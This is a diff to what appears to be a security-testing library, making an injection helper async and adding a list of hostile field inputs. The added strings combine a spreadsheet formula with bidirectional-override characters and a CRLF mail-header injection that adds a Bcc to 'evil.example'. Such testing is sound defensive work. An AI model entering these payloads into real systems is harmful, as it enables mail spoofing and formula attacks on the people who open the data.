@@ -26,11 +26,11 @@ function mapTexts(
  * program's, stays as it was.
  * @param refused the places that a contract refuses, or that lie above one
  */
-export function poisoned<Content>(
+export async function poisoned<Content>(
   content: Content,
-  refused: (content: Content) => readonly string[],
+  refused: (content: Content) => readonly string[] | Promise<readonly string[]>,
   isText: (key: string) => boolean = () => true,
-): { readonly content: Content; readonly count: number } {
+): Promise<{ readonly content: Content; readonly count: number }> {
   const kept = new Set<string>();
   for (;;) {
     let count = 0;
@@ -41,7 +41,7 @@ export function poisoned<Content>(
       count += 1;
       return /^(https?:|\/)/.test(text) ? SCRIPT_LINK : text + POISON;
     }) as Content;
-    const places = refused(tried);
+    const places = await refused(tried);
     if (places.length === 0) return { content: tried, count };
     const before = kept.size;
     mapTexts(content, (text, path) => {
@@ -72,3 +72,17 @@ export function madeOf(page: string): string[] {
 
 /** Whether a page shows something of it, as text. */
 export const shows = (page: string): boolean => page.includes(`&lt;b ${MARK}`);
+
+/** Signs that turn the writing, and a formula for whoever opens a list as a spreadsheet. */
+const FORMULA = '=1+1\u202e\u200f';
+
+/**
+ * Hostile texts for a field, the worst first, and last what it needs: each is tried where the one before it was refused.
+ * @param door what the text is known by again
+ * @param lines whether the field takes more than one line: those then pretend to be headers of a mail
+ */
+export const hostileTexts = (door: string, needed: string, lines: boolean): readonly string[] => [
+  `${FORMULA} ${door}${POISON}${lines ? '\r\nBcc: zz9@evil.example\r\n\r\n<p zz9>' : ''}`,
+  `${needed}${needed ? ' ' : ''}${door}${POISON}`,
+  needed,
+];
